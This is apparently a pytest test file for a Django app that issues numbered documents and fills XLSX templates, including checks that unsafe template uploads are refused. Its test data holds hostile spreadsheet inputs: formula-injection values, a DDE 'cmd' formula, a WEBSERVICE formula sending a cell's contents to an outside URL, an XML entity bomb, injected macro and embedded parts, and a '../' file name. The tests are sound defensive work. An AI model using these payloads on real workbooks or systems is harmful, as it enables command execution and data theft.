"""Documents that are handed out: once, frozen, numbered, found by their serial alone; and their templates."""

from __future__ import annotations

import io
import re
import zipfile
from typing import Any

import pytest
import xlsxwriter
from django.core.files.base import ContentFile
from django.db import IntegrityError, transaction
from python_calamine import CalamineWorkbook

from muster.core.database import violated_constraint
from muster.core.files import FileRefused, FileTooLarge
from muster.core.ids import new_id
from muster.documents.errors import NoPlaceholders, UnknownPlaceholders
from muster.documents.filling import fill_workbook, placeholders_in
from muster.documents.kinds import Filling
from muster.documents.models import DocumentTemplate, IssuedDocument
from muster.documents.queries import document_with, documents_of, template_content
from muster.documents.rules import (
    LARGEST_TEMPLATE,
    DocumentDraft,
    issue_documents,
    put_template,
    remove_template,
    supersede_documents,
)
from tests.make import Campus

pytestmark = pytest.mark.django_db


def draft(holder: Any, says: str = "70", *, series: str = "one", about: Any = ()) -> DocumentDraft:
    return DocumentDraft("transcript", holder, [series], about, {"says": says})


# --- issuing ---------------------------------------------------------------------------------------------------------
def test_what_says_the_same_is_the_same_document() -> None:
    campus = Campus.found()
    student = campus.student()
    [first] = issue_documents(by=campus.admin, drafts=[draft(student)])
    [again] = issue_documents(by=campus.admin, drafts=[draft(student)])
    assert (again.pk, again.serial, again.status) == (first.pk, first.serial, "valid")


def test_what_says_something_else_follows_the_one_before() -> None:
    campus = Campus.found()
    student = campus.student()
    [first] = issue_documents(by=campus.admin, drafts=[draft(student)])
    [later] = issue_documents(by=campus.admin, drafts=[draft(student, "71")])
    first.refresh_from_db()
    assert (first.status, later.status, first.number, later.number) == ("superseded", "valid", 1, 2)
    assert first.content == {"says": "70"}


def test_each_institution_counts_its_own() -> None:
    here, there = Campus.found(), Campus.found()
    issue_documents(by=here.admin, drafts=[draft(here.student()), draft(here.student(), series="two")])
    [other] = issue_documents(by=there.admin, drafts=[draft(there.student())])
    numbers = IssuedDocument.objects.filter(institution=here.institution).order_by("number")
    assert (list(numbers.values_list("number", flat=True)), other.number) == ([1, 2], 1)


def test_what_rests_on_something_corrected_ends() -> None:
    campus = Campus.found()
    student = campus.student()
    [kept, ended] = issue_documents(
        by=campus.admin,
        drafts=[
            draft(student, about=[student.pk]),
            draft(student, series="two", about=[campus.institution.pk, student.pk]),
        ],
    )
    assert supersede_documents(by=campus.admin, about=[campus.institution.pk]) == 1
    kept.refresh_from_db()
    ended.refresh_from_db()
    assert (kept.status, ended.status) == ("valid", "superseded")


def test_who_sees_a_part_finds_the_documents_of_that_part_alone() -> None:
    campus, other = Campus.found(), Campus.found()
    student, seen, hidden = campus.student(), new_id(), new_id()
    drafts = [draft(student, series=str(about), about=about) for about in ([seen], [seen, hidden], [hidden])]
    first, _both, _other = issue_documents(by=campus.admin, drafts=drafts)
    assert list(documents_of(campus.admin, student, [seen])) == [first]
    assert not documents_of(other.admin, student, [seen])


@pytest.mark.parametrize("change", [{"content": {"says": "100"}}, {"number": 7}, {"code": "0000000000"}, None])
def test_the_database_keeps_a_document_as_it_was(change: dict[str, Any] | None) -> None:
    campus = Campus.found()
    [document] = issue_documents(by=campus.admin, drafts=[draft(campus.student())])
    rows = IssuedDocument.objects.filter(pk=document.pk)
    with pytest.raises(IntegrityError) as refused, transaction.atomic():
        rows.update(**change) if change else rows.delete()
    assert violated_constraint(refused.value) == "issued_document_stays"


def test_an_ended_document_does_not_become_valid_again() -> None:
    campus = Campus.found()
    student = campus.student()
    [document] = issue_documents(by=campus.admin, drafts=[draft(student, about=[student.pk])])
    supersede_documents(by=campus.admin, about=[student.pk])
    with pytest.raises(IntegrityError), transaction.atomic():
        IssuedDocument.objects.filter(pk=document.pk).update(ended_at=None, ending="")


def test_the_database_knows_one_valid_document_of_a_series() -> None:
    campus = Campus.found()
    [document] = issue_documents(by=campus.admin, drafts=[draft(campus.student())])
    copy = {name: getattr(document, name) for name in ("kind", "holder", "series", "digest", "content")}
    with pytest.raises(IntegrityError) as refused, transaction.atomic():
        IssuedDocument.objects.create(institution=campus.institution, **copy)
    assert violated_constraint(refused.value) == "one_valid_document_of_a_series"


# --- finding ---------------------------------------------------------------------------------------------------------
def test_a_serial_is_found_as_people_type_it() -> None:
    campus = Campus.found()
    [document] = issue_documents(by=campus.admin, drafts=[draft(campus.student())])
    typed = document.serial
    for way in (typed, typed.lower(), typed.replace("-", " "), typed.replace("0", "o").replace("1", "l")):
        assert document_with(way) == document


@pytest.mark.parametrize("serial", ["", "1", "000001", "000001-AAAAA-AAAAA", "x" * 500, "000001-ÄÄÄÄÄ-ÄÄÄÄÄ", "٣-"])
def test_nothing_else_is_found(serial: str) -> None:
    campus = Campus.found()
    issue_documents(by=campus.admin, drafts=[draft(campus.student())])
    assert document_with(serial) is None


def test_the_code_of_one_document_does_not_open_another_number() -> None:
    campus = Campus.found()
    student = campus.student()
    first, second = issue_documents(by=campus.admin, drafts=[draft(student), draft(student, series="two")])
    assert document_with(first.serial.replace("000001", "000002")) is None
    assert document_with(second.serial) == second


# --- templates -------------------------------------------------------------------------------------------------------
def book(write: Any) -> bytes:
    target = io.BytesIO()
    made = xlsxwriter.Workbook(target)
    write(made.add_worksheet("Sheet"))
    made.close()
    return target.getvalue()


def rows_of(content: bytes) -> list[list[Any]]:
    return CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()


def test_values_stand_in_the_places_of_placeholders() -> None:
    content = book(lambda page: page.write_string("A1", "{{ student.full_name }} has {{record.cgpa}}"))
    assert placeholders_in(content) == {"student.full_name", "record.cgpa"}
    filled = fill_workbook(content, Filling({"student.full_name": "Ann & <Abel>", "record.cgpa": 6.5}))
    assert rows_of(filled) == [["Ann & <Abel> has 6.5"]]


def test_a_number_stays_a_number_and_what_is_missing_stays_empty() -> None:
    def write(page: Any) -> None:
        page.write_string("A1", "{{record.cgpa}}")
        page.write_string("B1", "{{record.backlog}}")
        page.write_string("C1", "kept")

    assert rows_of(fill_workbook(book(write), Filling({"record.cgpa": 6.5, "record.backlog": ""}))) == [
        [6.5, "", "kept"]
    ]


def test_a_row_of_subjects_is_repeated_and_everything_below_moves() -> None:
    def write(page: Any) -> None:
        page.write_row("A1", ["Subject", "Points"])
        page.write_row("A2", ["{{subject.title}}", "{{subject.points}}"])
        page.write_string("A3", "Sum")
        page.write_formula("B3", "=SUM(B2:B2)")
        page.merge_range("A4:B4", "Signed")

    rows = [{"subject.title": name, "subject.points": points} for name, points in (("A", 1), ("B", 2), ("C", 3))]
    content = fill_workbook(book(write), Filling({}, rows))
    assert rows_of(content) == [["Subject", "Points"], ["A", 1], ["B", 2], ["C", 3], ["Sum", ""], ["Signed", ""]]
    assert formulas_of(content) == ["SUM(B2:B4)"]


def formulas_of(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return re.findall(r"<f>([^<]*)</f>", archive.read("xl/worksheets/sheet1.xml").decode())


def test_without_subjects_the_row_stays_empty() -> None:
    content = book(lambda page: page.write_row("A1", ["{{subject.title}}", "x"]))
    assert rows_of(fill_workbook(content, Filling({}, []))) == [["x"]]


@pytest.mark.parametrize("name", ["=1+1", "+1", "@SUM(A1)", "-2+3", '=HYPERLINK("http://x")'])
def test_what_is_filled_in_is_never_a_formula(name: str) -> None:
    content = book(lambda page: page.write_string("A1", "{{student.full_name}}"))
    filled = fill_workbook(content, Filling({"student.full_name": name}))
    assert (rows_of(filled), formulas_of(filled)) == ([[name]], [])


def test_a_template_with_odd_placeholders_is_refused_by_name() -> None:
    campus = Campus.found()
    content = book(lambda page: page.write_row("A1", ["{{student.full_name}}", "{{student.salary}} {{ x }}"]))
    with pytest.raises(UnknownPlaceholders) as refused:
        put_template(by=campus.admin, kind="transcript", file=ContentFile(content, name="t.xlsx"))
    assert "{{student.salary}}, {{x}}" in refused.value.message
    assert not DocumentTemplate.objects.exists()


def test_a_template_that_says_the_same_of_everybody_is_refused() -> None:
    campus = Campus.found()
    with pytest.raises(NoPlaceholders):
        put_template(
            by=campus.admin,
            kind="transcript",
            file=ContentFile(book(lambda page: page.write_string("A1", "x")), name="t.xlsx"),
        )


def test_a_placeholder_in_a_formula_is_refused_by_its_cell() -> None:
    content = book(lambda page: page.write_formula("C7", '="{{student.full_name}}"'))
    with pytest.raises(FileRefused, match="Cell C7 of sheet1"):
        placeholders_in(content)


@pytest.mark.parametrize(
    ("part", "text"),
    [
        ("xl/vbaProject.bin", b"x"),
        ("xl/externalLinks/externalLink1.xml", b"<x/>"),
        ("xl/embeddings/oleObject1.bin", b"x"),
        ("xl/activeX/activeX1.xml", b"<x/>"),
        (
            "xl/worksheets/_rels/sheet1.xml.rels",
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
            b' Type="http://x/image" Target="http://x/pixel.png" TargetMode="External"/></Relationships>',
        ),
    ],
)
def test_what_would_do_something_when_opened_is_refused(part: str, text: bytes) -> None:
    content = io.BytesIO(book(lambda page: page.write_string("A1", "{{student.full_name}}")))
    with zipfile.ZipFile(content, "a") as archive:
        archive.writestr(part, text)
    with pytest.raises(FileRefused, match="macros, embedded objects or links"):
        placeholders_in(content.getvalue())


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04", b"%PDF-1.7", b"a,b\n{{student.full_name}},2"])
def test_what_is_no_workbook_is_refused(content: bytes) -> None:
    with pytest.raises(FileRefused, match="not an XLSX workbook"):
        placeholders_in(content)


def test_an_entity_does_not_grow() -> None:
    source = book(lambda page: page.write_string("A1", "{{student.full_name}}"))
    target = io.BytesIO()
    bomb = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]><sst xmlns="http://schemas.openxmlformats.org/x">&a;</sst>'
    with zipfile.ZipFile(io.BytesIO(source)) as before, zipfile.ZipFile(target, "w") as after:
        for name in before.namelist():
            after.writestr(name, bomb if name == "xl/sharedStrings.xml" else before.read(name))
    with pytest.raises(FileRefused):
        placeholders_in(target.getvalue())


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("https://example.org/"&A1)',
        '=_xlfn.IMAGE("https://example.org/x.png")',
        "=cmd|'/c calc'!A1",
        "=[1]S!A1",
    ],
)
def test_a_formula_that_asks_elsewhere_is_refused(formula: str) -> None:
    with pytest.raises(FileRefused, match="fetch from elsewhere"):
        placeholders_in(book(lambda page: page.write_formula("B1", formula)))


def test_a_formula_that_only_names_such_things_stays() -> None:
    content = book(lambda page: page.write_formula("B1", '=IF(A1="a|b WEBSERVICE(",Prices[2030],SUM(A1:A3))'))
    assert placeholders_in(content) == set()


def test_a_template_too_large_is_refused() -> None:
    campus = Campus.found()
    with pytest.raises(FileTooLarge):
        put_template(by=campus.admin, kind="transcript", file=ContentFile(b"x" * (LARGEST_TEMPLATE + 1), name="t.xlsx"))


def test_an_institution_s_own_template_is_used_until_it_is_removed() -> None:
    campus, other = Campus.found(), Campus.found()
    content = book(lambda page: page.write_string("A1", "{{student.full_name}}"))
    put_template(by=campus.admin, kind="transcript", file=ContentFile(content, name="../t.xlsm"))
    assert template_content(campus.institution.pk, "transcript") == (content, True)
    assert DocumentTemplate.objects.get().file_name == "t.xlsx"
    assert not template_content(other.institution.pk, "transcript")[1]
    assert remove_template(by=campus.admin, kind="transcript")
    assert not template_content(campus.institution.pk, "transcript")[1]
